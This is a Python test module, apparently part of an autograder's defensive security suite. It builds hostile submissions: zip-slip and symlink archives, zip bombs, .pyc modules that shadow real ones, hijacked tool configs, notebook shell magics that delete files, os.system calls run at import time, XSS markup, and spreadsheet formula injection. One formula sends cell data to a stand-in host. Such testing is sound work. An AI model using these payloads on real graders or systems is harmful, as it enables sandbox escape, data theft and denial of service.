"""The submission as a file: archives that leave their folder, bombs, notebooks that are none, configuration that somebody picks up, and text that
becomes markup or a formula in a report.
"""

import io
import json
import marshal
import stat
import struct
import time
import zipfile
from collections.abc import Callable, Mapping
from functools import cache, partial

from tests.attacks.attack import LOOK, Win, attack, filled, notebook, packed
from tests.attacks.target import HONEST

Places = Mapping[str, str]
_ESCAPES = (Win.ESCAPES, Win.DOWN, Win.NEXT)
_files = partial(attack, family="files", wins=_ESCAPES, not_shown="the textbook grader opens no file")

_DATA_FILE = """
def caption(name, score):
    with open("forma.txt", encoding="utf-8") as file:
        return file.read().format(name, score)
"""
_FORM = {"forma.txt": b"{}: {:.2f}"}
_HELLO = b"hola"
_NOTHING = "# nothing of its own: the file itself is the attack\n"


def _zip(*entries: tuple[str | zipfile.ZipInfo, bytes], source: str = HONEST) -> Callable[[Places], bytes]:
    """A zip of the script and these entries, written as they are."""

    def build(places: Places) -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr("tarea.py", filled(source, places))
            for name, content in entries:
                archive.writestr(
                    filled(name, places) if isinstance(name, str) else name,
                    filled(content.decode("latin-1"), places).encode("latin-1"),
                )
        return stream.getvalue()

    return build


def _entry(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def _raw(
    name: str,
    goal: str,
    raw: Callable[[Places], bytes],
    container: str = "zip",
    twin: str = _DATA_FILE,
    wrong: tuple[str, ...] = (),
    **more,
):
    files = {"twin_files": _FORM} if container == "zip" and "twin_files" not in more and twin is _DATA_FILE else {}
    more = {"wins": _ESCAPES, **more}
    return attack(
        name,
        goal,
        _NOTHING,
        twin,
        *wrong,
        family="files",
        container=container,
        raw=raw,
        not_shown="the textbook grader opens no file",
        **files,
        **more,
    )


@cache
def _bomb_bytes() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("tarea.py", HONEST)
        for n in range(10):
            archive.writestr(f"d{n}.bin", bytes(64 << 20))
    return stream.getvalue()


def _lying_sizes(places: Places) -> bytes:
    """The sizes in the directory say 1 byte; the content inflates to 64 MiB."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("tarea.py", HONEST)
        archive.writestr("d.bin", bytes(64 << 20))
    return stream.getvalue().replace(struct.pack("<I", 64 << 20), struct.pack("<I", 1))


def _compiled(text: str) -> bytes:
    """What Python imports without a source."""
    import importlib.util

    return (
        importlib.util.MAGIC_NUMBER
        + struct.pack("<I", 0)
        + struct.pack("<II", int(time.time()), 0)
        + marshal.dumps(compile(text, "x", "exec"))
    )


_BROKEN = "import os\nopen('hecho-por-configuracion', 'w').write('x')\nos._exit(0)\n"

_WRONG_ONE = "def standardize(x):\n    return x\n"

_MARKUP = '<script>alert(1)</script><img src=x onerror=alert(1)>"\'><svg/onload=alert(1)>{{7*7}}{% raw %}</style><iframe src="javascript:alert(1)">'
_FORMULAS = '=HYPERLINK("http://x/?"&A1;"ver")\n+cmd|\' /C calc\'!A0\t@SUM(1+1)*cmd\r-2+3'

_MARKUP_CODE = f"""
def caption(name, score):
    return {_MARKUP!r}


def standardize(x):
    {_MARKUP!r}
    raise ValueError({_MARKUP!r})


def deposit(account, amount):
    return {_FORMULAS!r}


def brighten(images):
    raise RuntimeError({_FORMULAS!r})


def summary(x):
    raise type({_MARKUP[:60]!r}, (Exception,), {{}})({_FORMULAS!r})
"""

_HONEST_TEXT = '''
def caption(name, score):
    """Con <b>marcas</b>, =1+1 & "comillas": son texto."""
    assert "<i>" < "=1"
    return f"{name}: {score:.2f}"
'''


def _cells(*sources: str, **more) -> Callable[[Places], bytes]:
    return lambda places: notebook(*(filled(source, places) for source in sources), **more)


_CLAIM = [{"output_type": "stream", "name": "stdout", "text": ["correct\n", "5/5 ejercicios correctos\n"]}]
_METADATA = {
    "catedra": {"class": 902, "outcome": "correct", "verdict": {"checks": [{"exercise": 1, "outcome": "correct"}]}},
    "nbgrader": {"grade": True, "points": 100, "score": 100},
}


ATTACKS = (
    _raw(
        "zip_slip",
        "leave the folder by `..`",
        _zip(("../../../../../../../..@@OUTSIDE@@/pwned.txt", _HELLO), ("../precious.txt", _HELLO)),
    ),
    _raw(
        "absolute_names",
        "write by absolute names, also those of other systems",
        _zip(("@@OUTSIDE@@/precious.txt", _HELLO), ("C:\\Users\\x.txt", _HELLO)),
    ),
    _raw(
        "symbolic_link_in_a_zip",
        "a link to a folder outside, and then a file below it",
        lambda places: _zip(
            (_entry("salida", stat.S_IFLNK | 0o777), places["OUTSIDE"].encode()), ("salida/precious.txt", _HELLO)
        )(places),
    ),
    _raw(
        "link_to_what_is_hidden",
        "a link to the key, which the answer opens as its own file",
        lambda places: _zip(
            (_entry("datos.txt", stat.S_IFLNK | 0o777), places["KEY"].encode()),
            source=HONEST + LOOK + "def standardize(x):\n    _leak(_read('datos.txt'))\n",
        )(places),
        wins=(Win.LEAKS, Win.ESCAPES),
    ),
    _raw(
        "fifo_and_devices",
        "a pipe on which reading never ends, and the device of the memory",
        _zip(
            (_entry("tubo.npy", stat.S_IFIFO | 0o666), b""),
            (_entry("memoria", stat.S_IFCHR | 0o666), b""),
            (_entry("zocalo", stat.S_IFSOCK | 0o666), b""),
        ),
    ),
    _raw("zip_bomb", "640 MB in as many kilobytes", lambda places: _bomb_bytes()),
    _raw("zip_that_lies_about_sizes", "declare one byte and inflate to 64 MiB", _lying_sizes),
    _raw(
        "duplicate_names",
        "two files of one name: one is verified, the other is run",
        lambda places: _zip(("tareb.py", (HONEST + _WRONG_ONE).encode()))(places).replace(b"tareb.py", b"tarea.py"),
        wins=(Win.SCORES, Win.DOWN, Win.NEXT),
        wrong=("1",),
    ),
    _raw(
        "names_that_hurt",
        "names with line breaks, escapes, right-to-left marks, NUL and 4,000 characters",
        _zip(("a\nb\x1b[2J\u202etxt.gpj", _HELLO), ("x" * 4000, _HELLO), ("con/" * 200 + "aux", _HELLO)),
    ),
    _raw(
        "damaged_zip",
        "a zip cut in the middle, with a second directory inside",
        lambda places: packed(HONEST, "zip", _FORM)[:-30] + b"PK\x05\x06" + bytes(40),
    ),
    _files(
        "compiled_modules",
        "bring numpy, json, msgpack, catedra and sitecustomize as compiled modules, which no one counts as scripts",
        "def standardize(x):\n    import colorsys\n    import json\n    import msgpack\n\n    return x\n",
        _DATA_FILE,
        "1",
        container="zip",
        files={
            f"{name}.pyc": _compiled(_BROKEN)
            for name in ("numpy", "json", "msgpack", "colorsys", "catedra", "sitecustomize", "usercustomize", "_bootlocale")
        },
        twin_files=_FORM,
    ),
    _files(
        "configuration_picked_up",
        "bring the files that tools read from the folder in which they start",
        "def standardize(x):\n    return x\n",
        _DATA_FILE,
        "1",
        container="zip",
        files={
            "conftest.pyc": _compiled(_BROKEN),
            "x.pth": b"import os; os._exit(0)\n",
            "pyproject.toml": b'[tool.pytest.ini_options]\naddopts = "--collect-only"\n',
            "pytest.ini": b"[pytest]\naddopts = --co\n",
            "setup.cfg": b"[tool:pytest]\naddopts = --co\n",
            "matplotlibrc": b"backend: module://malo\n",
            "keras.json": b'{"backend": "malo", "floatx": "float16"}',
            ".keras/keras.json": b'{"backend": "malo"}',
            ".numpy-site.cfg": b"[DEFAULT]\nlibrary_dirs = /x\n",
            "pyvenv.cfg": b"home = /x\n",
            "python311._pth": b"/x\n",
            ".env": b"CATEDRA_SCALE=smoke\n",
            "record.json": b"{}",
            "verdict.json": b'{"outcome": "correct"}',
            "catedra.toml": b"advisory = false\n",
            ".jupyter/jupyter_config.json": b"{}",
        },
        twin_files={**_FORM, "README.txt": b"datos"},
    ),
    _files(
        "folders_of_packages",
        "bring packages (folders without any .py) and native libraries that shadow ours",
        "def standardize(x):\n    import numpy.random\n\n    return x\n",
        _DATA_FILE,
        "1",
        container="zip",
        files={
            "numpy/__init__.pyc": _compiled(_BROKEN),
            "catedra/__init__.pyc": _compiled(_BROKEN),
            "numpy.so": b"\x7fELF",
            "libopenblas.so.0": b"\x7fELF",
            "_ctypes.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
        },
        twin_files=_FORM,
    ),
    _raw(
        "notebook_of_brackets",
        "JSON nested a hundred thousand deep",
        lambda places: b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "ipynb",
        _HONEST_TEXT,
    ),
    _raw(
        "notebook_of_strange_types",
        "numbers, nulls and lists where texts belong; huge and repeated keys",
        lambda places: (
            b'{"nbformat": 4, "nbformat": 1e999, "cells": [{"cell_type": "code", "source": 7}, null, [], {"cell_type": ["code"], "source": [null]}], "metadata": NaN}'
        ),
        "ipynb",
        _HONEST_TEXT,
    ),
    _raw(
        "notebook_of_many_values",
        "two million cells",
        lambda places: b'{"nbformat": 4, "cells": [' + b",".join([b"{}"] * 2_000_000) + b"]}",
        "ipynb",
        _HONEST_TEXT,
    ),
    _raw(
        "notebook_with_a_number_of_digits",
        "an integer of a million digits, which takes minutes to parse",
        lambda places: b'{"nbformat": 4, "cells": [], "x": ' + b"9" * 1_000_000 + b"}",
        "ipynb",
        _HONEST_TEXT,
    ),
    _raw(
        "not_text_at_all",
        "random bytes, surrogates, byte order marks and NUL under the name of a script",
        lambda places: b"\xff\xfe" + bytes(range(256)) * 50,
        "py",
        _HONEST_TEXT,
    ),
    _raw(
        "encoding_that_hides_code",
        "a script that declares UTF-7, in which the comment is code",
        lambda places: b"# -*- coding: utf-7 -*-\n# +AAo-import os\n" + (HONEST + _WRONG_ONE).encode(),
        "py",
        "# -*- coding: utf-8 -*-\n# ñandú\n",
        wins=(Win.SCORES, Win.DOWN),
        wrong=("1",),
    ),
    _raw(
        "source_that_breaks_the_parser",
        "ten thousand parentheses, and an expression of a hundred thousand terms",
        lambda places: (
            "x = " + "(" * 10_000 + ")" * 10_000 + "\ny = " + "+".join(["1"] * 100_000) + "\nz = " + "-" * 50_000 + "1\n"
        ).encode(),
        "py",
        _HONEST_TEXT,
    ),
    _raw(
        "literal_that_fills_memory",
        "constants that the compiler folds into gigabytes",
        lambda places: (
            HONEST
            + "\n\na = 9 ** 64 * 9 ** 64\nb = 'x' * 10**10\nc = (0,) * 10**9\n\n\ndef standardize(x):\n    return 'x' * 10**9 * 10**3\n"
        ).encode(),
        "py",
        "SIDE = 28 * 28\nRATE = 1e-3 / 2\n",
        wrong=("1",),
    ),
    _raw(
        "success_in_outputs_and_metadata",
        "a notebook whose outputs, metadata and tags say that it is correct",
        _cells(HONEST, _WRONG_ONE, outputs=_CLAIM, metadata=_METADATA),
        "ipynb",
        _HONEST_TEXT,
        wins=Win.SCORES,
        wrong=("1",),
        twin_raw=_cells(HONEST, outputs=_CLAIM, metadata=_METADATA),
    ),
    _raw(
        "magics_and_shell_lines",
        "run commands by magics, in cells and in lines",
        _cells(
            HONEST,
            "!touch @@OUTSIDE@@/magic\n%run @@OUTSIDE@@/x.py\nx = !rm -f @@OUTSIDE@@/precious.txt",
            "%%bash\ntouch @@OUTSIDE@@/magic",
            "%%python\nopen('@@OUTSIDE@@/magic', 'w')",
            "%%writefile @@OUTSIDE@@/magic\nx",
            "%load_ext catedra\nget_ipython().system('touch @@OUTSIDE@@/magic')",
        ),
        "ipynb",
        _HONEST_TEXT,
        twin_raw=_cells("%matplotlib inline\n%load_ext autoreload", HONEST, "%%time\nrate = 0.1", "!pip list", "%%bash\nls"),
    ),
    _raw(
        "code_that_runs_while_loading",
        "commands in decorators, defaults, annotations, class bodies, metaclasses and comprehensions",
        lambda places: (
            filled(HONEST + "\n\nimport os\n\n\n@os.system\ndef x(a=open('@@OUTSIDE@@/default', 'w')): ...\n", places).encode()
            + filled(
                "\n\nclass Y(metaclass=lambda *a: os.system('touch @@OUTSIDE@@/meta')):\n    os.system('touch @@OUTSIDE@@/body')\n\n\nz: os.system('touch @@OUTSIDE@@/annotation') = 1\n",
                places,
            ).encode()
        ),
        "py",
        "import functools\n\n\n@functools.lru_cache(maxsize=None)\ndef _cached(n=len([1, 2])):\n    return n\n\n\nclass Table:\n    values = [_cached(n) for n in range(3)]\n",
    ),
    _files(
        "markup_in_messages",
        "write scripts into every text that a report quotes",
        _MARKUP_CODE,
        _HONEST_TEXT,
        *"12345",
        wins=(Win.RENDERS, Win.DOWN),
    ),
    _files(
        "markup_in_the_name",
        "hand in a file whose name is markup",
        _MARKUP_CODE,
        _HONEST_TEXT,
        *"12345",
        wins=(Win.RENDERS, Win.DOWN),
        stem="<img src=x onerror=alert(1)>\"'{{7*7}}&lt;",
    ),
    _files(
        "formula_in_the_name",
        "hand in a file whose name is a spreadsheet's formula",
        _MARKUP_CODE,
        _HONEST_TEXT,
        *"12345",
        wins=(Win.RENDERS, Win.DOWN),
        stem='=HYPERLINK("http:\\\\x?"&A1;"ver")',
    ),
    _files(
        "name_that_is_an_option",
        "hand in a file whose name is an option, has line breaks and turns around",
        _WRONG_ONE,
        _HONEST_TEXT,
        "1",
        wins=(Win.SCORES, Win.DOWN, Win.RENDERS),
        stem="-rf --key\n\u202e\x1b[2J ../x".replace("/", "∕"),
    ),
    _raw(
        "markup_in_cells",
        "scripts in Markdown cells, titles, outputs and attachments",
        lambda places: json.dumps(
            {
                "nbformat": 4,
                "nbformat_minor": 5,
                "metadata": {"title": _MARKUP, "authors": [{"name": _FORMULAS}]},
                "cells": [
                    {
                        "cell_type": "markdown",
                        "id": "tarea-respuesta",
                        "metadata": {"catedra": {"role": "written"}},
                        "source": _MARKUP + _FORMULAS,
                        "attachments": {"x.png": {"image/png": _MARKUP}},
                    },
                    {
                        "cell_type": "code",
                        "id": "a",
                        "metadata": {},
                        "execution_count": 1,
                        "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": _MARKUP}}],
                        "source": HONEST + _MARKUP_CODE,
                    },
                ],
            }
        ).encode(),
        "ipynb",
        _HONEST_TEXT,
        wins=(Win.RENDERS, Win.DOWN),
        wrong=("1", "2", "3", "4", "5"),
    ),
)
